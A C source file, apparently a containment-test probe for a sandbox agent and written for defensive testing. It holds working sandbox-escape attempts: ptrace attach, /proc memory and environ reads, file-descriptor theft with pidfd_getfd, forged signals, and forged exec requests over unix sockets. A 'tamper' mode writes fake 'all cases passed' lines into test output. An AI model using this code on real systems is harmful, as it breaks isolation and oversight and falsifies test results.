/*
 * agent_probe: the attacks of tests/adversarial/test_agent_channel.py, run as root inside a
 * sandbox (compiled static at test time, copied in with write_file). Each subcommand prints one
 * line per attempt, "<what>: <outcome>", where the outcome is "ok" when the attack step worked
 * and the errno name when the kernel refused it; the exit status is the number of steps that
 * worked, so 0 means contained.
 *
 *   ptrace PID...            PTRACE_SEIZE and PTRACE_ATTACH
 *   mem PID...               /proc/PID/mem read-write and read-only, process_vm_readv,
 *                            /proc/PID/{environ,fd/,root/,cwd/,exe}
 *   getfd PID...             pidfd_open, then pidfd_getfd of fds 0..63
 *   prlimit PID...           lower RLIMIT_NOFILE to 16 (and put it back if that worked)
 *   signal PID SIG...        kill(PID, SIG) for each; "qTERM" sigqueues SIGTERM with a forged
 *                            si_pid 0 (as if from the host); exit status 0 (the kernel accepts
 *                            signals to init and drops them: the test checks the agent)
 *   userns SUB ARGS...       unshare a user namespace (every capability in it), then run SUB
 *                            there; prints "nested user namespace: made", or "userns: <errno>"
 *                            and exits 0 if none could be made
 *   sockets [PATH...]        every unix socket found in the filesystem, /proc/net/unix and the
 *                            given paths: connect and send a forged agent exec request
 *   agents                   pids of the agent: PID 1 and its handlers, one a line
 *   hijack SECONDS           for SECONDS, over and over: take any fd of any agent process,
 *                            freeze them (SIGSTOP, PTRACE_SEIZE+INTERRUPT), and answer the
 *                            daemon's next request on any socket taken with a forged result
 *   tamper NAME SECONDS      for SECONDS: write "all cases passed" into the stdout of any
 *                            process whose argv mentions NAME (through /proc/PID/fd/1)
 *   fakeagent PATH header|body   serve PATH as a forged agent whose reply claims 512 MiB
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static int g_worked;

static void report(const char *what, int rc)
{
    if (rc >= 0) {
        g_worked++;
        printf("%s: ok\n", what);
    } else {
        printf("%s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    }
    fflush(stdout);
}

static int dispatch(int argc, char **argv);

/* ---------------------------------------------------------------- memory and fds */

static void try_ptrace(pid_t pid)
{
    char what[64];
    snprintf(what, sizeof what, "ptrace seize %d", pid);
    long rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
    report(what, rc < 0 ? -1 : 0);
    if (rc == 0) { /* a seized tracee must be stopped before it can be let go */
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    snprintf(what, sizeof what, "ptrace attach %d", pid);
    rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
    report(what, rc < 0 ? -1 : 0);
    if (rc == 0) {
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static void try_open(const char *fmt, pid_t pid, int flags)
{
    char path[64], what[96];
    snprintf(path, sizeof path, fmt, pid);
    snprintf(what, sizeof what, "open %s %s", path, (flags & O_ACCMODE) == O_RDWR ? "rw" : "r");
    int fd = open(path, flags | O_CLOEXEC);
    report(what, fd);
    if (fd >= 0)
        close(fd);
}

/* /proc/PID/fd may list numbers; what matters is whether an entry opens or reads back. */
static void try_fd_links(pid_t pid)
{
    char dir[64], path[400], target[256], what[440];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    struct dirent *e;
    int listed = 0;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        listed++;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        snprintf(what, sizeof what, "readlink %s", path);
        ssize_t n = readlink(path, target, sizeof target - 1);
        report(what, (int)n);
        snprintf(what, sizeof what, "open %s", path);
        int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        report(what, fd);
        if (fd >= 0)
            close(fd);
    }
    printf("list %s: %s (%d entries)\n", dir, d ? "listed" : strerrorname_np(errno), listed);
    if (d)
        closedir(d);
}

static void try_mem(pid_t pid)
{
    try_open("/proc/%d/mem", pid, O_RDWR);
    try_open("/proc/%d/mem", pid, O_RDONLY);
    try_open("/proc/%d/environ", pid, O_RDONLY);
    try_open("/proc/%d/root", pid, O_RDONLY | O_DIRECTORY);
    try_open("/proc/%d/cwd", pid, O_RDONLY | O_DIRECTORY);
    try_fd_links(pid);
    char path[64], target[256], what[96];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    snprintf(what, sizeof what, "readlink %s", path);
    report(what, (int)readlink(path, target, sizeof target));
    char buf[64];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    snprintf(what, sizeof what, "process_vm_readv %d", pid);
    ssize_t rc = process_vm_readv(pid, &local, 1, &remote, 1, 0);
    if (rc < 0 && errno == EFAULT)
        rc = 0; /* allowed in, just a bad address */
    report(what, rc < 0 ? -1 : 0);
}

/* Every fd of pid we can take; returns the first socket taken, or -1. */
static int try_getfd(pid_t pid, int quiet)
{
    char what[64];
    int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
    snprintf(what, sizeof what, "pidfd_open %d", pid);
    if (pfd < 0) {
        if (!quiet)
            printf("%s: %s (nothing to take fds through)\n", what, strerrorname_np(errno));
        return -1;
    }
    int sock = -1;
    for (int fd = 0; fd < 64; fd++) {
        int got = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (got < 0 && errno == EBADF)
            continue;
        snprintf(what, sizeof what, "pidfd_getfd %d fd %d", pid, fd);
        if (!quiet || got >= 0)
            report(what, got);
        struct stat st;
        if (got >= 0 && fstat(got, &st) == 0 && S_ISSOCK(st.st_mode) && sock < 0)
            sock = got;
        else if (got >= 0)
            close(got);
    }
    close(pfd);
    return sock;
}

/* Lower the target's open-file limit (every later exec would fail) and put it back if that
 * worked. */
static void try_prlimit(pid_t pid)
{
    char what[64];
    struct rlimit old, low = {16, 16};
    snprintf(what, sizeof what, "prlimit %d NOFILE 16", pid);
    int rc = prlimit(pid, RLIMIT_NOFILE, &low, &old);
    report(what, rc);
    if (rc == 0)
        prlimit(pid, RLIMIT_NOFILE, &old, NULL);
}

/* ---------------------------------------------------------------- signals */

static int signum(const char *name)
{
    static const struct { const char *n; int s; } t[] = {
        {"TERM", SIGTERM}, {"INT", SIGINT}, {"HUP", SIGHUP}, {"USR1", SIGUSR1},
        {"STOP", SIGSTOP}, {"KILL", SIGKILL}, {"QUIT", SIGQUIT}, {"CHLD", SIGCHLD},
    };
    for (unsigned i = 0; i < sizeof t / sizeof t[0]; i++)
        if (!strcmp(name, t[i].n))
            return t[i].s;
    return atoi(name);
}

static int cmd_signal(int argc, char **argv)
{
    pid_t pid = atoi(argv[0]);
    for (int i = 1; i < argc; i++) {
        char what[64];
        int rc;
        if (argv[i][0] == 'q') {
            /* as if from the host: SI_QUEUE with si_pid 0 (the kernel refuses SI_USER) */
            siginfo_t si = {0};
            si.si_signo = signum(argv[i] + 1);
            si.si_code = SI_QUEUE;
            si.si_pid = 0;
            si.si_uid = 0;
            rc = (int)syscall(SYS_rt_sigqueueinfo, pid, si.si_signo, &si);
        } else {
            rc = kill(pid, signum(argv[i]));
        }
        snprintf(what, sizeof what, "signal %s to %d", argv[i], pid);
        printf("%s: %s\n", what, rc == 0 ? "sent" : strerrorname_np(errno));
        usleep(100000);
    }
    return 0;
}

/* ---------------------------------------------------------------- user namespaces */

/* No id maps are written: mapping root needs CAP_SETFCAP, which the sandbox lacks, and left
 * unmapped the process keeps the sandbox root's ids outside while it holds every capability
 * inside the new namespace, the strongest position a nested user namespace gives. */
static int cmd_userns(int argc, char **argv)
{
    if (unshare(CLONE_NEWUSER) < 0) {
        printf("userns: %s\n", strerrorname_np(errno));
        return 0;
    }
    char line[256], eff[64] = "?";
    FILE *f = fopen("/proc/self/status", "r");
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "CapEff: %63s", eff) == 1)
            break;
    if (f)
        fclose(f);
    printf("nested user namespace: made (CapEff %s)\n", eff);
    fflush(stdout);
    return dispatch(argc, argv);
}

/* ---------------------------------------------------------------- sockets */

static void put_field(char *b, size_t *n, const char *k, const char *v)
{
    uint32_t vl = strlen(v);
    b[(*n)++] = (char)strlen(k);
    memcpy(b + *n, k, strlen(k));
    *n += strlen(k);
    memcpy(b + *n, &vl, 4);
    *n += 4;
    memcpy(b + *n, v, vl);
    *n += vl;
}

/* Connect to a unix socket (path or "@abstract") and send a forged exec request. */
static void try_socket(const char *name)
{
    char what[200];
    snprintf(what, sizeof what, "forge request on %s", name);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    socklen_t len;
    if (name[0] == '@') {
        size_t l = strnlen(name + 1, sizeof a.sun_path - 1);
        memcpy(a.sun_path + 1, name + 1, l);
        len = offsetof(struct sockaddr_un, sun_path) + 1 + l;
    } else {
        snprintf(a.sun_path, sizeof a.sun_path, "%s", name);
        len = sizeof a;
    }
    if (connect(fd, (struct sockaddr *)&a, len) < 0) {
        report(what, -1);
        close(fd);
        return;
    }
    char req[256];
    size_t n = 4;
    put_field(req, &n, "op", "exec");
    put_field(req, &n, "arg", "/bin/true");
    uint32_t hl = n - 4;
    memcpy(req, &hl, 4);
    char reply[64];
    struct pollfd p = {.fd = fd, .events = POLLIN};
    ssize_t got = -1;
    if (write(fd, req, n) == (ssize_t)n && poll(&p, 1, 1000) == 1)
        got = read(fd, reply, sizeof reply);
    /* an answer carrying "exit_code" would be the agent serving us */
    int agent = got > 0 && memmem(reply, got, "exit_code", 9);
    printf("%s: %s\n", what, agent ? "ANSWERED AS THE AGENT" : "connected, no agent answer");
    g_worked += agent;
    close(fd);
}

static void find_sockets(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d || depth > 12)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
        if (!strcmp(path, "/proc") || !strcmp(path, "/sys"))
            continue;
        struct stat st;
        if (lstat(path, &st) < 0)
            continue;
        if (S_ISSOCK(st.st_mode))
            try_socket(path);
        else if (S_ISDIR(st.st_mode))
            find_sockets(path, depth + 1);
    }
    closedir(d);
}

static int cmd_sockets(int argc, char **argv)
{
    find_sockets("/", 0);
    FILE *f = fopen("/proc/net/unix", "r");
    char line[512];
    while (f && fgets(line, sizeof line, f)) {
        char *path = strrchr(line, ' ');
        if (path && path[1] == '@') {
            path[strcspn(path, "\n")] = 0;
            try_socket(path + 1);
        }
    }
    if (f)
        fclose(f);
    for (int i = 0; i < argc; i++)
        try_socket(argv[i]);
    try_socket("/proc/1/fd/3");
    return g_worked;
}

/* ---------------------------------------------------------------- agent processes */

static pid_t parent_of(pid_t pid)
{
    char path[64], st[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, st, sizeof st - 1);
    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return -1;
    st[n] = 0;
    char *rp = strrchr(st, ')');
    char state;
    int ppid;
    return rp && sscanf(rp + 1, " %c %d", &state, &ppid) == 2 ? ppid : -1;
}

/* The agent: PID 1 and its handlers (its children still running the agent's code). A child a
 * handler forks for a command runs that code too until it execs the command; it belongs to the
 * command, and freezing it only makes that command time out. */
static int agent_pids(pid_t *out, int max)
{
    int n = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) && n < max) {
        pid_t pid = atoi(e->d_name);
        char path[64], cmd[256];
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = pid > 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
        if (fd < 0)
            continue;
        ssize_t len = read(fd, cmd, sizeof cmd - 1);
        close(fd);
        if (len > 0 && !strncmp(cmd, "/.dsec/agent", 12) && (pid == 1 || parent_of(pid) == 1))
            out[n++] = pid;
    }
    if (d)
        closedir(d);
    return n;
}

static void forge_answer(int listener)
{
    int c = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
    if (c < 0)
        return;
    char b[256];
    size_t n = 4;
    put_field(b, &n, "ok", "1");
    put_field(b, &n, "exit_code", "0");
    put_field(b, &n, "stdout_len", "17");
    put_field(b, &n, "body_len", "17");
    uint32_t hl = n - 4;
    memcpy(b, &hl, 4);
    memcpy(b + n, "all cases passed\n", 17);
    if (write(c, b, n + 17) < 0) {
    }
    close(c);
}

static int cmd_hijack(int argc, char **argv)
{
    time_t end = time(NULL) + (argc ? atoi(argv[0]) : 5);
    long rounds = 0, taken = 0;
    while (time(NULL) < end) {
        pid_t pids[256];
        int n = agent_pids(pids, 256);
        for (int i = 0; i < n; i++) {
            int s = try_getfd(pids[i], 1);
            if (s >= 0) {
                taken++;
                forge_answer(s);
                close(s);
            }
            kill(pids[i], SIGSTOP);
            if (ptrace(PTRACE_SEIZE, pids[i], 0, 0) == 0) {
                taken++;
                ptrace(PTRACE_INTERRUPT, pids[i], 0, 0);
            }
        }
        rounds++;
        usleep(2000);
    }
    printf("hijack: %ld rounds, %ld footholds\n", rounds, taken);
    return taken > 0;
}

static int cmd_tamper(int argc, char **argv)
{
    time_t end = time(NULL) + atoi(argv[1]);
    long hits = 0;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            char path[64], cmd[512];
            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
            int fd = pid > 1 && pid != getpid() ? open(path, O_RDONLY | O_CLOEXEC) : -1;
            if (fd < 0)
                continue;
            ssize_t len = read(fd, cmd, sizeof cmd - 1);
            close(fd);
            if (len <= 0 || !memmem(cmd, len, argv[0], strlen(argv[0])))
                continue;
            snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
            fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
            if (fd >= 0 && write(fd, "all cases passed\n", 17) == 17)
                hits++;
            if (fd >= 0)
                close(fd);
        }
        if (d)
            closedir(d);
        usleep(1000);
    }
    printf("tamper: %ld writes\n", hits);
    return 0;
}

/* ---------------------------------------------------------------- a forged agent */

static int cmd_fakeagent(int argc, char **argv)
{
    int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s", argv[0]);
    unlink(argv[0]);
    if (bind(l, (struct sockaddr *)&a, sizeof a) < 0 || listen(l, 8) < 0) {
        perror("fakeagent");
        return 1;
    }
    chmod(argv[0], 0777);
    int body = argc > 1 && !strcmp(argv[1], "body");
    for (;;) {
        int c = accept4(l, NULL, NULL, SOCK_CLOEXEC);
        if (c < 0)
            continue;
        char b[256], junk[4096];
        if (read(c, junk, sizeof junk) < 0) {
        }
        size_t n = 4;
        uint32_t hl = 512u << 20;
        if (body) {
            put_field(b, &n, "ok", "1");
            put_field(b, &n, "exit_code", "0");
            put_field(b, &n, "stdout_len", "536870912");
            put_field(b, &n, "body_len", "536870912");
            hl = n - 4;
        }
        memcpy(b, &hl, 4);
        if (write(c, b, n) < 0) {
        }
        memset(junk, 'A', sizeof junk);
        for (int i = 0; i < 256; i++)   /* a first MiB of the promised bytes, then stall */
            if (write(c, junk, sizeof junk) < 0)
                break;
        sleep(3);
        close(c);
    }
}

/* ---------------------------------------------------------------- main */

static int each_pid(int argc, char **argv, void (*f)(pid_t))
{
    for (int i = 0; i < argc; i++)
        f(atoi(argv[i]));
    return g_worked;
}

static void getfd_loud(pid_t pid)
{
    int s = try_getfd(pid, 0);
    if (s >= 0)
        close(s);
}

static int dispatch(int argc, char **argv)
{
    if (argc < 1) {
        fprintf(stderr, "usage: agent_probe SUBCOMMAND ARGS...\n");
        return 100;
    }
    const char *c = argv[0];
    argc--, argv++;
    if (!strcmp(c, "ptrace"))
        return each_pid(argc, argv, try_ptrace);
    if (!strcmp(c, "mem"))
        return each_pid(argc, argv, try_mem);
    if (!strcmp(c, "prlimit"))
        return each_pid(argc, argv, try_prlimit);
    if (!strcmp(c, "getfd"))
        return each_pid(argc, argv, getfd_loud);
    if (!strcmp(c, "signal"))
        return cmd_signal(argc, argv);
    if (!strcmp(c, "userns"))
        return cmd_userns(argc, argv);
    if (!strcmp(c, "sockets"))
        return cmd_sockets(argc, argv);
    if (!strcmp(c, "agents")) {
        pid_t p[256];
        int n = agent_pids(p, 256);
        for (int i = 0; i < n; i++)
            printf("%d\n", p[i]);
        return 0;
    }
    if (!strcmp(c, "hijack"))
        return cmd_hijack(argc, argv);
    if (!strcmp(c, "tamper") && argc == 2)
        return cmd_tamper(argc, argv);
    if (!strcmp(c, "fakeagent") && argc >= 1)
        return cmd_fakeagent(argc, argv);
    fprintf(stderr, "agent_probe: unknown subcommand %s\n", c);
    return 100;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    return dispatch(argc - 1, argv + 1);
}
